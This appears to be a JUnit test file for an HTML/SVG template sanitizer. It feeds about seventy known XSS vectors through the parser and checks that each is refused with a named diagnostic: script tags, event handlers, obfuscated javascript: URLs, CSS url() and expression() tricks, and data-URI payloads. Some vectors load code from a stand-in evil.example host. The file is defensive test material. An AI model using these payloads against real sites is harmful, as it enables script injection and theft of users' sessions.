package hyperpbi.render;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import hyperpbi.diagnostic.Diagnostic;
import hyperpbi.diagnostic.Diagnostics;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class MarkupTest {
  private static final String AT = "/components/0/template";
  /** Every attribute name the allowlist can produce. */
  private static final Set<String> NAMES = Set.of("class", "title", "role", "style", "align",
      "width", "height", "colspan", "rowspan", "value", "max", "min", "low", "high", "optimum",
      "open", "datetime", "href", "src", "alt", "viewBox", "d", "x", "y", "x1", "y1", "x2", "y2",
      "cx", "cy", "r", "rx", "ry", "dx", "dy", "points", "fill", "stroke", "stroke-width",
      "stroke-opacity", "stroke-dasharray", "stroke-linecap", "stroke-linejoin", "opacity",
      "fill-opacity", "transform", "text-anchor", "font-size", "font-weight",
      "dominant-baseline");

  private record Result(List<Node> nodes, String html, Diagnostics diagnostics,
      MarkupTemplate template) {
    String messages() {
      StringBuilder out = new StringBuilder();
      for (Diagnostic d : diagnostics.sorted()) {
        out.append(d.code()).append(' ').append(d.path()).append(": ").append(d.message())
            .append('\n');
      }
      return out.toString();
    }
  }

  private static Result render(String template, Function<String, String> values) {
    Diagnostics diagnostics = new Diagnostics();
    MarkupTemplate t = Markup.parse(template, AT, diagnostics);
    List<Node> nodes = t.instantiate(values, diagnostics);
    StringBuilder html = new StringBuilder();
    for (Node n : nodes) {
      HtmlWriter.write(html, n);
    }
    return new Result(nodes, html.toString(), diagnostics, t);
  }

  private static Result render(String template) {
    return render(template, field -> "v");
  }

  /** The known XSS vectors, each with what its refusal diagnostic must name (null: none due). */
  static Stream<Arguments> vectors() {
    return Stream.of(
        Arguments.of("<script>alert(1)</script>", "<script>"),
        Arguments.of("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script>"),
        Arguments.of("<script/src=data:,alert(1)></script>", "<script>"),
        Arguments.of("<img src=x onerror=alert(1)>", "onerror"),
        Arguments.of("<img src=x:alert(alt) onerror=eval(src) alt=0>", "<img> without"),
        Arguments.of("<svg onload=alert(1)>", "onload"),
        Arguments.of("<svg/onload=alert(1)>", "onload"),
        Arguments.of("<body onload=alert(1)>", "<body>"),
        Arguments.of("<a href=\"jAvAsCrIpT:alert(1)\">x</a>", "href"),
        Arguments.of("<a href=\"&#106;avascript:alert(1)\">x</a>", "href"),
        Arguments.of("<a href=\"&#106avascript&#58alert(1)\">x</a>", "href"),
        Arguments.of("<a href=\"#&#x6A;avascript:alert(1)\">x</a>", "'javascript:'"),
        Arguments.of("<a href=\"java&#x09;script:alert(1)\">x</a>", "href"),
        Arguments.of("<a href=\" \u0001javascript:alert(1)\">x</a>", "href"),
        Arguments.of("<a href=\"https://evil.example/\">x</a>", "no navigation"),
        Arguments.of("<a href=\"{{link}}\">x</a>", "a URL never comes from data"),
        Arguments.of("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe>"),
        Arguments.of("<iframe src=javascript:alert(1)>", "<iframe>"),
        Arguments.of("<style>@import 'http://evil.example/x.css';</style>", "<style>"),
        Arguments.of("<div style=\"background:url(javascript:alert(1))\">x</div>", "url("),
        Arguments.of("<div style=\"background:\\75 rl(http://evil.example/)\">x</div>", "url("),
        Arguments.of("<div style=\"background:&#92;75rl(http://evil.example/)\">x</div>", "url("),
        Arguments.of("<div style=\"width: expression(alert(1))\">x</div>", "expression("),
        Arguments.of("<div style=\"-moz-binding:url(x.xml#xss)\">x</div>", "-moz-binding"),
        Arguments.of("<div style=\"behavior:url(x.htc)\">x</div>", "behavior"),
        Arguments.of("<div style=\"}</style><script>alert(1)</script>\">x</div>", "'}'"),
        Arguments.of("<div style=\"position:fixed;inset:0\">x</div>", "position: fixed"),
        Arguments.of("<math><mtext><script>alert(1)</script></mtext></math>", "<math>"),
        Arguments.of("<template><script>alert(1)</script></template>", "<template>"),
        Arguments.of("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<noscript>"),
        Arguments.of("<xmp><script>alert(1)</script></xmp>", "<xmp>"),
        Arguments.of("<textarea><script>alert(1)</script></textarea>", "<textarea>"),
        Arguments.of("<div title=\"a\" onclick=\"alert(1)\">x</div>", "onclick"),
        Arguments.of("<div title='x\" onmouseover=\"alert(1)'>x</div>", null),
        Arguments.of("<div title=\"x\"onmouseover=\"alert(1)\">x</div>", "onmouseover"),
        Arguments.of("<div title=\"&#x6a;avascript:alert(1)\">x</div>", "'javascript:'"),
        Arguments.of("<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "src"),
        Arguments.of("<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "src"),
        Arguments.of("<img src=\"data:image/png;base64,iVBORw0KGgo=\" onerror=\"alert(1)\">",
            "onerror"),
        Arguments.of("<object data=\"javascript:alert(1)\"></object>", "<object>"),
        Arguments.of("<embed src=\"javascript:alert(1)\">", "<embed>"),
        Arguments.of("<link rel=stylesheet href=\"http://evil.example/x.css\">", "<link>"),
        Arguments.of("<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<meta>"),
        Arguments.of("<base href=\"javascript:/\">", "<base>"),
        Arguments.of("<form action=\"javascript:alert(1)\"><input type=submit></form>", "<form>"),
        Arguments.of("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<a> is not allowed inside <svg>"),
        Arguments.of("<svg><script>alert(1)</script></svg>", "<script>"),
        Arguments.of("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<animate>"),
        Arguments.of("<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
            "<set>"),
        Arguments.of("<svg><use href=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\"/></svg>",
            "<use>"),
        Arguments.of("<svg><foreignObject><iframe src=javascript:alert(1)></iframe>"
            + "</foreignObject></svg>", "<foreignobject>"),
        Arguments.of("<svg><rect fill=\"url(http://evil.example/track)\"/></svg>", "url("),
        Arguments.of("<svg><rect fill=\"\\75 rl(http://evil.example/track)\"/></svg>", "url("),
        Arguments.of("<div data-event=\"click\">x</div>", "data-event"),
        Arguments.of("<div id=\"login\">x</div>", "'id'"),
        Arguments.of("<!--<script>alert(1)</script>-->x", null),
        Arguments.of("<scr<script>ipt>alert(1)</script>", "not allowed"),
        Arguments.of("<<script>script>alert(1)</script>", "<script>"),
        Arguments.of("<scr&#105;pt>alert(1)</scr&#105;pt>", "not allowed"),
        Arguments.of("<details open ontoggle=alert(1)>x</details>", "ontoggle"),
        Arguments.of("<div style=\"background-image: image-set('x.png' 1x)\">x</div>",
            "image-set("),
        Arguments.of("<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
            "background"),
        Arguments.of("<a href=\"#top\" target=\"_blank\">x</a>", "target"),
        Arguments.of("<p>open <b>bold <i>italic <script>alert(1)", "<script>"),
        Arguments.of("<div title=\"unterminated onmouseover=alert(1)>x", "never closed"),
        Arguments.of("<isindex action=javascript:alert(1) type=image>", "<isindex>"),
        Arguments.of("<frameset onload=alert(1)>", "<frameset>"),
        Arguments.of("<video><source onerror=\"alert(1)\"></video>", "<video>"),
        Arguments.of("<svg><rect transform=\"url(#x)\" width=\"expression(alert(1))\"/></svg>",
            "expression("));
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void aKnownVectorLeavesNothingExecutable(String vector, String refusal) {
    Result r = render(vector);
    assertSafe(r);
    if (refusal == null) {
      return;
    }
    String messages = r.messages();
    assertTrue(messages.contains("UNSAFE_MARKUP " + AT) || messages.contains("UNSAFE_CSS " + AT),
        messages);
    assertTrue(messages.contains(refusal), "expected a refusal naming " + refusal + " in\n"
        + messages + "for " + vector + " -> " + r.html);
  }

  @Test
  void theCorpusHoldsAtLeastFortyVectors() {
    assertTrue(vectors().count() >= 40);
  }

  private static void assertSafe(Result r) {
    String html = r.html.toLowerCase(java.util.Locale.ROOT);
    for (String bad : List.of("<script", "javascript:", "url(", "@import", "<iframe", "<style",
        "<math", "<template", "<object", "<embed", "<svg onload", "expression(")) {
      assertFalse(html.contains(bad), bad + " in " + r.html);
    }
    for (Node n : r.nodes) {
      assertAttributesAllowed(n);
    }
  }

  private static void assertAttributesAllowed(Node n) {
    for (int i = 0; i < n.attributes().size(); i += 2) {
      String name = n.attributes().get(i);
      if (name.startsWith("on") || !(NAMES.contains(name) || name.startsWith("aria-")
          || name.startsWith("data-"))) {
        fail("attribute " + name + " on <" + n.tag() + ">");
      }
      if (name.equals("src")) {
        assertTrue(n.attributes().get(i + 1).startsWith("data:image/png;base64,"));
      }
      if (name.equals("href")) {
        assertTrue(n.attributes().get(i + 1).startsWith("#"));
      }
    }
    for (Node c : n.children()) {
      assertAttributesAllowed(c);
    }
  }

  // ---- nesting and size ------------------------------------------------------------------

  @Test
  void aHundredThousandNestedElementsNeitherOverflowNorLoseTheText() {
    int n = 100_000;
    String deep = "<div>".repeat(n) + "deep" + "</div>".repeat(n);
    Result r = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> render(deep));
    assertTrue(r.html.contains("deep"));
    assertEquals(Markup.MAX_DEPTH, depth(r.nodes.get(0)));
    assertTrue(r.messages().contains("nested deeper than 64"), r.messages());
    assertEquals(1, r.diagnostics.size(), r.messages());
    // Unclosed, and alternating kinds, and deep SVG: the same bound.
    Result unclosed = render("<b>".repeat(n) + "x");
    assertEquals(Markup.MAX_DEPTH, depth(unclosed.nodes.get(0)));
    Result mixed = render("<span><div>".repeat(n / 2) + "y");
    assertTrue(mixed.html.contains("y"));
    Result svg = render("<svg>" + "<g>".repeat(n) + "<text>z</text>");
    assertEquals(Markup.MAX_DEPTH, depth(svg.nodes.get(0)));
    // Past the bound <text> is not created and its text, directly in a <g>, is not drawn: said.
    assertTrue(svg.messages().contains("text directly inside <g> is not drawn"), svg.messages());
  }

  @Test
  void hostileInputOfHundredsOfThousandsOfCharactersParsesInLinearTime() {
    // Quadratic work on any of these would take minutes; linear work takes well under a second.
    String[] inputs = {"<".repeat(400_000), "<a ".repeat(100_000), "&#".repeat(200_000),
        "&#x1111111111".repeat(20_000), "<!--".repeat(100_000), "<script>".repeat(50_000),
        "<li>".repeat(100_000), "<td>".repeat(100_000), "<font>x".repeat(50_000),
        "{{".repeat(100_000), "<div title=\"{{a}}\">".repeat(20_000),
        "<p>a<b>b</b>c".repeat(30_000)};
    for (String input : inputs) {
      Result r = assertTimeoutPreemptively(Duration.ofSeconds(30), () -> render(input));
      assertSafe(r);
    }
  }

  private static int depth(Node n) {
    int d = 0;
    Node at = n;
    while (at != null) {
      d++;
      at = at.children().isEmpty() ? null : at.children().get(0);
    }
    return d;
  }

  // ---- what is kept, exactly ---------------------------------------------------------------

  @Test
  void allowedMarkupIsKeptExactly() {
    String[] kept = {
        "<div class=\"kpi\" role=\"group\" aria-label=\"Sales\"><span class=\"kpi-value\">v</span>"
            + "<small>vs last year</small></div>",
        "<table><thead><tr><th colspan=\"2\">Region</th></tr></thead><tbody><tr><td>v</td>"
            + "<td align=\"right\" rowspan=\"1\">v</td></tr></tbody><tfoot><tr><td>t</td></tr>"
            + "</tfoot><caption>c</caption></table>",
        "<svg viewBox=\"0 0 100 20\" width=\"100\" height=\"20\" role=\"img\"><title>Share</title>"
            + "<g transform=\"translate(1,1)\"><rect x=\"0\" y=\"0\" width=\"50\" height=\"20\" "
            + "rx=\"2\" fill=\"#118DFF\" fill-opacity=\"0.5\"/><circle cx=\"5\" cy=\"5\" r=\"3\" "
            + "stroke=\"#000\" stroke-width=\"1\"/><path d=\"M0 0L10 10\"/><polyline "
            + "points=\"0,0 1,1\"/><line x1=\"0\" y1=\"0\" x2=\"1\" y2=\"1\"/><text x=\"2\" "
            + "y=\"14\" font-size=\"12\" text-anchor=\"start\" dominant-baseline=\"middle\">"
            + "v</text></g></svg>",
        "<details open=\"\"><summary>More</summary><p>Body</p></details>",
        "<progress value=\"3\" max=\"10\"></progress><meter value=\"0.4\" min=\"0\" max=\"1\">"
            + "</meter>",
        "<p><time datetime=\"2024-01-31\">31 Jan</time><abbr title=\"Year to date\">YTD</abbr>"
            + "</p>",
        "<ul><li>a</li><li>b</li></ul><ol><li>c</li></ol><dl><dt>d</dt><dd>e</dd></dl>",
        "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6><hr><br>",
        "<section><article><header>h</header><footer>f</footer></article></section>",
        "<figure><blockquote>q</blockquote><figcaption>c</figcaption></figure>",
        "<pre><code>x = 1</code></pre><mark>m</mark><sub>s</sub><sup>t</sup><label>l</label>",
        "<strong>s</strong><em>e</em><b>b</b><i>i</i><u>u</u>",
        "<a href=\"#details\">Details</a>",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"logo\" width=\"16\">",
        "<div data-kind=\"x\" aria-hidden=\"true\" title=\"Data: 2024\">x</div>"};
    for (String html : kept) {
      Result r = render(html);
      assertEquals(html, r.html);
      assertEquals("", r.messages(), html);
    }
  }

  @Test
  void placeholdersAreFilledAsTextNeverAsMarkup() {
    Map<String, String> row = Map.of("Region", "<script>alert(1)</script>", "Amount", "1,234",
        "Note", "\" onmouseover=\"alert(1)");
    Result r = render("<tr><td title=\"{{Note}}\">{{ Region }}</td><td>{{Amount}} &amp; more</td>"
        + "</tr>", row::get);
    assertEquals("<tr><td title=\"&quot; onmouseover=&quot;alert(1)\">&lt;script&gt;alert(1)"
        + "&lt;/script&gt;</td><td>1,234 &amp; more</td></tr>", r.html);
    assertEquals("<script>alert(1)</script>", r.nodes.get(0).children().get(0).text());
    assertEquals(List.of("Note", "Region", "Amount"), r.template.placeholders());
    assertEquals("", r.messages());
  }

  @Test
  void theTemplateIsParsedOnceAndFilledPerRow() {
    Diagnostics d = new Diagnostics();
    MarkupTemplate t = Markup.parse("<li class=\"{{k}}\">{{k}}: {{v}}</li>", AT, d);
    assertEquals(List.of("k", "v"), t.placeholders());
    for (int i = 0; i < 3; i++) {
      String k = "k" + i;
      Node li = t.instantiate(f -> f.equals("k") ? k : null).get(0);
      assertEquals("<li class=\"" + k + "\">" + k + ": </li>", HtmlWriter.write(li));
    }
  }

  @Test
  void aRowValueIsHarmlessTextInATitleButNeverAUrlOrAStyle() {
    Function<String, String> hostile = f -> switch (f) {
      case "t" -> "javascript:alert(1)";
      case "c" -> "url(http://evil.example/track)";
      case "s" -> "red; position: fixed";
      case "e" -> "\\75 rl(http://evil.example/)";
      default -> "4";
    };
    Result title = render("<span title=\"{{t}}\">x</span>", hostile);
    assertEquals("<span title=\"javascript:alert(1)\">x</span>", title.html);
    Result fill = render("<svg><rect fill=\"{{c}}\" width=\"{{w}}\"/></svg>", hostile);
    assertEquals("<svg><rect width=\"4\"/></svg>", fill.html);
    assertTrue(fill.messages().contains("'fill' of <rect> holds 'url('"), fill.messages());
    Result style = render("<div style=\"color: {{s}}; width: {{w}}px\">x</div>", hostile);
    assertEquals("<div style=\"color:;width:4px\">x</div>".replace("color:;", ""), style.html);
    assertTrue(style.messages().contains("holds one of ;"), style.messages());
    Result escaped = render("<div style=\"background: {{e}}\">x</div>", hostile);
    assertEquals("<div>x</div>", escaped.html);
    Result css = render("<div style=\"background: {{c}}\">x</div>", hostile);
    assertEquals("<div>x</div>", css.html);
    assertTrue(css.messages().contains("'url('"), css.messages());
    Result link = render("<a href=\"#{{t}}\">x</a><img src=\"data:image/png;base64,{{t}}\">",
        hostile);
    assertEquals("<a>x</a>", link.html);
    assertTrue(link.messages().contains("a URL never comes from data"), link.messages());
    assertFalse(link.template.placeholders().contains("t"), "a refused value has no fields");
  }

  @Test
  void entitiesAreDecodedIntoText() {
    Result r = render("<p>a &amp; b &lt;c&gt; &quot;d&quot; &#39;e&#39; &apos;f&apos; &#65;&#x42;"
        + "&nbsp;g &unknown; &#; &#0; &#xD800; &#1114112;</p>");
    assertEquals("a & b <c> \"d\" 'e' 'f' AB\u00A0g &unknown; &#; \uFFFD \uFFFD \uFFFD",
        r.nodes.get(0).text());
    assertEquals("<p>a &amp; b &lt;c&gt; \"d\" 'e' 'f' AB\u00A0g &amp;unknown; &amp;#; \uFFFD "
        + "\uFFFD \uFFFD</p>", r.html);
  }

  @Test
  void textAfterAnElementBecomesAnElementOfItsOwn() {
    // The render tree holds one text per element, written before its children.
    assertEquals("<p>Total: <strong>v</strong><span> units</span></p>",
        render("<p>Total: <strong>{{t}}</strong> units</p>").html);
    assertEquals("<svg><text>a<tspan>b</tspan><tspan>c</tspan></text></svg>",
        render("<svg><text>a<tspan>b</tspan>c</text></svg>").html);
    assertEquals("<span>top</span><div>x</div><span>tail</span>",
        render("top<div>x</div>tail").html);
    assertEquals("<span>ab</span>", render("a<!-- note -->b").html);
    assertEquals("<p>ab</p>", render("<p>a<font color=red>b</font></p>").html);
  }

  @Test
  void indentationBetweenElementsIsLayoutNotContent() {
    assertEquals("<ul><li>a</li><li>b</li></ul>",
        render("\n<ul>\n  <li>a</li>\n  <li>b</li>\n</ul>\n").html);
    assertEquals("<p><b>a</b><span> </span><i>b</i></p>", render("<p><b>a</b> <i>b</i></p>").html);
    assertEquals("<pre>x\n  <b>y</b><span>\n</span></pre>",
        render("<pre>x\n  <b>y</b>\n</pre>").html);
    assertEquals("<svg><g><rect/></g></svg>", render("<svg>\n <g> <rect/> </g>\n</svg>").html);
  }

  @Test
  void unclosedAndStrayTagsAreForgiven() {
    assertEquals("<div><p>a<b>b</b></p></div>", render("<div><p>a<b>b").html);
    assertEquals("<p>a</p>", render("</span><p>a</p></div></p>").html);
    assertEquals("<ul><li>a</li><li>b</li></ul>", render("<ul><li>a<li>b</ul>").html);
    assertEquals("<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>",
        render("<table><tr><td>1<td>2<tr><td>3</table>").html);
    assertEquals("<p>a</p><div>b</div>", render("<p>a<div>b</div>").html);
    assertEquals("<div></div><span>x</span>", render("<div/>x").html);
    assertEquals("<span>a &lt; b</span>", render("a < b").html);
    assertEquals("<span>x</span>", render("<!DOCTYPE html><?xml version=\"1.0\"?>x").html);
  }

  @Test
  void attributesQuotedUnquotedAndValuelessAreRead() {
    Result r = render("<td class=a colspan='2' ROWSPAN=3 title = \"b c\">x</td>"
        + "<details open>y</details>");
    assertEquals("<td class=\"a\" colspan=\"2\" rowspan=\"3\" title=\"b c\">x</td>"
        + "<details open=\"\">y</details>", r.html);
    Result duplicate = render("<div class=a class=b>x</div>");
    assertEquals("<div class=\"a\">x</div>", duplicate.html);
    assertTrue(duplicate.messages().contains("duplicate attribute 'class'"));
  }

  @Test
  void anAuthorStyleGoesThroughTheCssFilter() {
    Result r = render("<div style=\"COLOR: #c00 ; font-size:  28px; content: 'x'\">x</div>");
    assertEquals("<div style=\"color:#c00;font-size:28px\">x</div>", r.html);
    assertTrue(r.messages().contains("UNSAFE_CSS " + AT + ": property 'content' is not allowed"),
        r.messages());
  }

  @Test
  void svgAndHtmlVocabulariesStayInTheirPlace() {
    Result rect = render("<rect width=\"1\"/>");
    assertEquals("", rect.html);
    assertTrue(rect.messages().contains("<rect> is only allowed inside <svg>"));
    Result div = render("<svg><div>x</div></svg>");
    assertTrue(div.messages().contains("<div> is not allowed inside <svg>"));
    Result text = render("<svg><g>loose</g></svg>");
    assertEquals("<svg><g/></svg>", text.html);
    assertTrue(text.messages().contains("text directly inside <g> is not drawn"));
    assertEquals("<svg viewBox=\"0 0 1 1\"></svg>".replace("></svg>", "/>"),
        render("<svg xmlns=\"http://www.w3.org/2000/svg\" viewbox=\"0 0 1 1\"></svg>").html);
  }

  @Test
  void repeatedRefusalsAreOneWarningWithACount() {
    Result r = render("<font>a</font><font>b</font><font>c</font>");
    assertEquals("<span>abc</span>", r.html);
    assertEquals(1, r.diagnostics.size());
    assertTrue(r.messages().contains("<font> is not allowed: dropped, its content kept (3 times, "
        + "first at character 0)"), r.messages());
  }
}
